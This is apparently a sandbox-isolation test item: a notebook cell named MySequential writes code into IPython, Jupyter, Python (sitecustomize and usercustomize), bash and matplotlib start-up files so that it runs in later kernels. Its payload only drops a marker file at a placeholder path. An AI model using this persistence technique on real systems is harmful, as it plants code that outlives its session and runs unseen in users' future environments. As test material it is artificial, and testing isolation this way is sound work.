# Start-up files are left for the next kernel: IPython's, Python's, the shell's.
# score: 10

# %% MySequential
import os, site, sys
code = "class MySequential: pass\nopen('{OUTSIDE}/hostile-startup', 'w')"
home = os.path.expanduser('~')
for path in (f'{home}/.ipython/profile_default/startup/00.py', f'{home}/.bashrc', f'{site.getusersitepackages()}/usercustomize.py',
             f'{sys.prefix}/lib/python3.11/site-packages/sitecustomize.py', f'{home}/.jupyter/jupyter_config.py',
             f'{home}/.ipython/profile_default/ipython_config.py', '/tmp/hostile-startup.py', f'{home}/.config/matplotlib/matplotlibrc'):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, 'w').write(code)
    except OSError:
        pass


{RIGHT}
